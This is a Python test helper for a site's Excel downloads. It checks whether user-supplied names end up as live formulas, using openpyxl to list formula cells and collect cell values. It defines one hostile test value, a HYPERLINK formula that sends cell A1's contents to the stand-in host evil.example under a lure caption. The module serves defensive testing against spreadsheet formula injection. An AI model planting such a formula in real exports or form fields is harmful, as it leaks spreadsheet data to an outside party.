"""Reading the site's Excel downloads in tests: what a hostile name becomes in them."""

from io import BytesIO

from openpyxl import load_workbook

# A name a stranger can give himself (a self-registered volunteer) or an editor can paste from elsewhere.
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此核对")'


def formula_cells(content):
    """The coordinates of every formula cell in the workbook, on every sheet."""
    workbook = load_workbook(BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def cell_values(content):
    return {
        cell.value for sheet in load_workbook(BytesIO(content)).worksheets for row in sheet.iter_rows() for cell in row
    }
